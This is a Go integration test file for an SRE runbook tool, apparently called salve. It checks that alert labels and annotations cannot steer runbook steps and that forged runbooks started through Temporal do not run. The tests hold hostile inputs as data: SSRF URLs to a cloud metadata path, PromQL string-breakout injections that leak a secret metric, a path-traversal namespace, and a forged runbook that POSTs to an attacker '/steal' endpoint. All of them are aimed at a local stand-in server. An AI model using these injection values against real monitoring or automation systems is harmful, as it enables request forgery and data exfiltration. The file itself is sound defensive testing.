package app_test

import (
	"context"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"go.temporal.io/sdk/client"

	"github.com/salve-sre/salve/activities"
	"github.com/salve-sre/salve/internal/app"
	"github.com/salve-sre/salve/internal/domain"
	"github.com/salve-sre/salve/internal/runs"
	"github.com/salve-sre/salve/internal/testenv"
	"github.com/salve-sre/salve/runbooks"
	"github.com/salve-sre/salve/workflows"
)

// probeRunbook asks real Prometheus about a job named by an alert label,
// quoted: a label written to break out of the string must find nothing.
const probeRunbook = `apiVersion: salve/v1
kind: Runbook
metadata: {name: probe}
spec:
  trigger:
    matchers: ['alertname="Probe"']
  steps:
    - {name: count, action: prometheus.query, with: {query: 'count(up{job={{ .Labels.job | promQuote }}}) or vector(0)'}}
`

// outboundRunbook calls a host outside salve dev's default egress.allow.
const outboundRunbook = `apiVersion: salve/v1
kind: Runbook
metadata: {name: outbound}
spec:
  trigger:
    matchers: ['alertname="Outbound"']
  steps:
    - {name: call, action: http.request, with: {url: 'http://192.0.2.1/x'}, retry: {maxAttempts: 1}}
`

// The attacks found against the shipped runbooks, tried again against a
// real salve dev with those runbooks, a real Prometheus and a loopback
// "attacker" listener: alert contents steer no request to the attacker,
// change no query, and choose no target; each such alert's run fails
// before any step, or acts only where the runbook says.
func TestAlertContentsCannotSteerRunbooks(t *testing.T) {
	var stolen atomic.Int64
	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		stolen.Add(1)
		_, _ = w.Write([]byte("ami-secret-credentials"))
	}))
	defer attacker.Close()

	metrics := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintln(w, `some_secret_metric 42`)
	}))
	defer metrics.Close()
	prom := testenv.StartPrometheus(t, strings.TrimPrefix(metrics.URL, "http://"))
	prom.WaitTargetsUp(t)

	dir := t.TempDir()
	shipped, err := filepath.Glob("../../runbooks/*.yaml")
	require.NoError(t, err)
	require.NotEmpty(t, shipped)
	for _, f := range shipped {
		b, err := os.ReadFile(f)
		require.NoError(t, err)
		require.NoError(t, os.WriteFile(filepath.Join(dir, filepath.Base(f)), b, 0o600))
	}
	writeRunbook(t, dir, "probe", probeRunbook)
	writeRunbook(t, dir, "outbound", outboundRunbook)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	d, err := app.Start(ctx, app.Config{
		DataDir: t.TempDir(), Listen: "127.0.0.1:0", WebhookToken: "test-token-6f1c0d9e7a3b42c8a6e1f0d4b7c9e2a1", RunbooksDir: dir,
		TemporalPort: -1, NATSPort: -1, UIPort: -1, Version: "test", PrometheusURL: prom.URL,
		Log: slog.New(slog.NewTextHandler(testWriter{t}, &slog.HandlerOptions{Level: slog.LevelWarn})),
	})
	require.NoError(t, err)
	registerDev(d)
	t.Cleanup(d.Close)

	fire := func(fp, labels, annotations string) {
		t.Helper()
		body := fmt.Sprintf(`{"version":"4","groupKey":"g","status":"firing","receiver":"salve","alerts":[{"status":"firing","labels":%s,"annotations":%s,"startsAt":"2026-12-06T01:00:00Z","fingerprint":%q}]}`, labels, annotations, fingerprintOf(fp))
		require.Equal(t, http.StatusOK, postWebhook(t, d.URL, d.WebhookToken, body))
	}
	// SSRF through the demo's old remediation_url annotation.
	fire("a1", `{"alertname":"SalveDemo","instance":"x"}`, fmt.Sprintf(`{"remediation_url":%q}`, attacker.URL+"/latest/meta-data/"))
	// A URL host built from a label.
	fire("a2", `{"alertname":"NodeFilesystemAlmostFull","instance":"evil/x?","mountpoint":"/"}`, `{}`)
	// The flag service's URL from an annotation.
	fire("a3", `{"alertname":"FeatureErrorBudgetBurn","feature":"checkout","env":"staging"}`, fmt.Sprintf(`{"salve_flags_url":%q}`, attacker.URL))
	// PromQL injection with exfiltration to an annotation URL.
	fire("a4", `{"alertname":"KubePodNotReady","namespace":"x\"}[15m])) or vector(scalar(sum(some_secret_metric))) #","deployment":"cart"}`,
		fmt.Sprintf(`{"salve_notify_url":%q,"salve_notify_target":%q}`, attacker.URL, attacker.URL))
	// A label picking the target of a Kubernetes step.
	fire("a5", `{"alertname":"KubeDeploymentCrashLooping","severity":"critical","namespace":"kube-system/../x","deployment":"cart"}`, `{}`)
	// A label written to break out of a PromQL string, against real Prometheus.
	fire("a6", `{"alertname":"Probe","job":"x\"}) or vector(scalar(some_secret_metric)) or up{job=\"y"}`, `{}`)
	// A host outside the egress allow-list (salve dev: this machine and its
	// Prometheus).
	fire("a7", `{"alertname":"Outbound"}`, `{}`)

	want := map[string]string{ // runbook -> how its run ends
		"demo-http-check":          "", // runs, against its own URL
		"disk-pressure-cleanup":    runs.StatusFailed,
		"feature-flag-kill-switch": runs.StatusFailed,
		"diagnose-and-notify":      runs.StatusFailed,
		"restart-crashlooping":     runs.StatusFailed,
		"probe":                    runs.StatusSucceeded,
		"outbound":                 runs.StatusFailed,
	}
	done := map[string]runs.Summary{}
	require.Eventually(t, func() bool {
		for _, r := range listRuns(t, d.URL) {
			if r.Status != runs.StatusRunning {
				done[r.Runbook] = r
			}
		}
		for rb := range want {
			if _, ok := done[rb]; !ok {
				return false
			}
		}
		return true
	}, 3*time.Minute, 250*time.Millisecond, "not every attack's run ended")

	for rb, status := range want {
		// Keys made of hostile labels still give IDs the API can address.
		det, code := getRun(t, d.URL, done[rb].WorkflowID)
		require.Equal(t, http.StatusOK, code, "%s: %s", rb, done[rb].WorkflowID)
		require.NotNil(t, det.Run, det.RunError)
		if status != "" {
			require.Equal(t, status, done[rb].Status, "%s: %+v", rb, det.Run)
		}
		switch rb {
		case "disk-pressure-cleanup", "diagnose-and-notify", "restart-crashlooping":
			require.Empty(t, det.Run.Steps, "%s: no step may run with a forged label: %s", rb, det.Run.Error)
			require.Contains(t, det.Run.Error, "parameter", rb)
		case "demo-http-check":
			require.Equal(t, "http://127.0.0.1:8080/healthz", det.Run.Params["url"], "the annotation does not choose the URL")
		case "feature-flag-kill-switch":
			require.NotEmpty(t, det.Run.Steps)
			require.Contains(t, det.Run.Steps[0].Error, "flags.internal", "the call went to the runbook's flag service, not the alert's")
		case "outbound":
			require.Contains(t, det.Run.Steps[0].Error, "egress.allow", "refused before connecting")
		case "probe":
			require.Equal(t, "succeeded", det.Run.Steps[0].State, det.Run.Steps[0].Error)
			require.EqualValues(t, 0, det.Run.Steps[0].Output["value"], "the quoted label matched no job: no injected vector(42)")
		}
	}
	require.Zero(t, stolen.Load(), "the attacker's listener was called")
}

// Whoever reaches Temporal can start a workflow with any runbook in its
// input. A real salve dev's worker runs none of it unless Salve signed it.
func TestForgedRunbookStartedInTemporalRunsNothing(t *testing.T) {
	var hits atomic.Int64
	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { hits.Add(1) }))
	defer attacker.Close()
	dir := t.TempDir()
	writeRunbook(t, dir, "probe", probeRunbook)
	d := startDev(t, dir)

	reg, err := activities.NewRegistry()
	require.NoError(t, err)
	forged, err := runbooks.Parse("forged.yaml", []byte(`apiVersion: salve/v1
kind: Runbook
metadata: {name: probe}
spec:
  steps:
    - {name: count, action: http.request, with: {url: '`+attacker.URL+`/steal', method: POST}}
`), reg)
	require.NoError(t, err)
	tc, err := client.Dial(client.Options{HostPort: d.TemporalAddr})
	require.NoError(t, err)
	defer tc.Close()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	for i, sig := range []string{"", strings.Repeat("ab", 32)} {
		id := fmt.Sprintf("salve/probe/forged-%d", i)
		wr, err := tc.ExecuteWorkflow(ctx, client.StartWorkflowOptions{ID: id, TaskQueue: runs.DefaultTaskQueue}, workflows.WorkflowName,
			workflows.Input{Runbook: *forged, RunbookSignature: sig, IncidentKey: "forged"})
		require.NoError(t, err)
		err = wr.Get(ctx, nil)
		require.Error(t, err)
		require.Contains(t, err.Error(), "not signed by Salve")
		require.Eventually(t, func() bool {
			return len(auditEvents(t, d.URL, "action="+domain.ActionRunRefused+"&workflowId="+id)) == 1
		}, 30*time.Second, 200*time.Millisecond, "the refusal is audited")
	}
	require.Zero(t, hits.Load(), "no step of the forged runbook ran")
}
